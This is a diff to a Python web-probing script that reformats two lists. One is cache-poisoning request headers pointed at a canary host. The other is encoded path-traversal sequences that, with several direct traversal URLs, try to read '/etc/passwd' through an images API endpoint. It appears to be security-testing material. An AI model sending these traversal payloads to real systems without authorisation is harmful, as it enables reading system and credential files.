@@ -127,17 +127,47 @@ def malformed(host: str) -> Iterator[bytes]:
 
 
 CANARY = "canary.invalid"
-UNKEYED = {
-    name: CANARY
-    for name in (
-        "x-forwarded-host x-forwarded-server x-forwarded-port x-forwarded-prefix x-forwarded-path "
-        "x-forwarded-scheme x-forwarded-for x-forwarded-ssl x-host x-original-host x-original-url "
-        "x-rewrite-url x-http-host-override x-http-method-override x-method-override x-real-ip "
-        "x-client-ip x-originating-ip x-remote-addr cf-connecting-ip true-client-ip x-wap-profile "
-        "x-original-uri x-proxy-url x-arr-log-id x-request-id origin referer user-agent cookie "
-        "authorization accept-language via x-backend x-cache-key surrogate-capability"
-    ).split()
-} | {
+UNKEYED = dict.fromkeys(
+    [
+        "x-forwarded-host",
+        "x-forwarded-server",
+        "x-forwarded-port",
+        "x-forwarded-prefix",
+        "x-forwarded-path",
+        "x-forwarded-scheme",
+        "x-forwarded-for",
+        "x-forwarded-ssl",
+        "x-host",
+        "x-original-host",
+        "x-original-url",
+        "x-rewrite-url",
+        "x-http-host-override",
+        "x-http-method-override",
+        "x-method-override",
+        "x-real-ip",
+        "x-client-ip",
+        "x-originating-ip",
+        "x-remote-addr",
+        "cf-connecting-ip",
+        "true-client-ip",
+        "x-wap-profile",
+        "x-original-uri",
+        "x-proxy-url",
+        "x-arr-log-id",
+        "x-request-id",
+        "origin",
+        "referer",
+        "user-agent",
+        "cookie",
+        "authorization",
+        "accept-language",
+        "via",
+        "x-backend",
+        "x-cache-key",
+        "surrogate-capability",
+    ],
+    CANARY,
+) | {
     "forwarded": f"host={CANARY};proto=https",
     "x-forwarded-proto": "https",
     "range": "bytes=0-3",
@@ -149,18 +179,35 @@ UNKEYED = {
 }
 
 SECRET = "etc/passwd"
-UPS = (
-    "../ ..%2f %2e%2e/ %2e%2e%2f ..%5c ..\\ %252e%252e%252f ..%252f %c0%ae%c0%ae%c0%af "
-    "%c0%ae%c0%ae/ ..%c0%af ....// ..;/ .%2e/ ..%00/ %uff0e%uff0e/ ..%ef%bc%8f ..%09/ ./../ "
-    "%2e%2e%5c"
-).split()
+UPS = [
+    "../",
+    "..%2f",
+    "%2e%2e/",
+    "%2e%2e%2f",
+    "..%5c",
+    "..\\",
+    "%252e%252e%252f",
+    "..%252f",
+    "%c0%ae%c0%ae%c0%af",
+    "%c0%ae%c0%ae/",
+    "..%c0%af",
+    "....//",
+    "..;/",
+    ".%2e/",
+    "..%00/",
+    "%uff0e%uff0e/",
+    "..%ef%bc%8f",
+    "..%09/",
+    "./../",
+    "%2e%2e%5c",
+]
 ROOTS = ("/", "/api/", "/api/framer/images/")
 
 
 def traversals() -> Iterator[str]:
     for root, up in product(ROOTS, UPS):
         yield root + up * 8 + SECRET
-    for direct in (
+    yield from (
         "/api/framer/images//etc/passwd",
         "/api/framer/images/%2fetc%2fpasswd",
         "/api/framer/images/" + "ab" * 16 + "/../../secret",
@@ -175,5 +222,4 @@ def traversals() -> Iterator[str]:
         "/" + "../" * 200 + SECRET,
         "/file:///etc/passwd",
         "/api//../../etc/passwd",
-    ):
-        yield direct
+    )
